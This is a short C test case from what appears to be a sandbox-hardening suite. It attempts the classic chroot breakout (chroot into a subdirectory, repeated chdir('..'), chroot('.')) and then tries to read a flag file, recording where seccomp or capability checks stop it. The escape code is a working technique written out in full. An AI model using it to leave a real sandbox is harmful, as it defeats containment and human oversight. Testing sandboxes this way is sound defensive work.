/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to: leave its root by way of a chroot in a chroot
 * Promise:  host-files
 * Control:  root
 * Oracle:   secret
 * Stops:    EPERM=seccomp|capability
 */
#include <sys/stat.h>

#include "attacks/attack.h"

ATTACK(break_out_of_chroot)
{
	(void)mkdir("inner", 0777);
	if (chroot("inner") < 0) {
		attack_stopped("chroot");
		return 0;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			attack_stopped("chdir");
	if (chroot(".") < 0)
		attack_stopped("chroot");
	(void)attack_spill_file(attack_value("FLAG"));
	return 0;
}
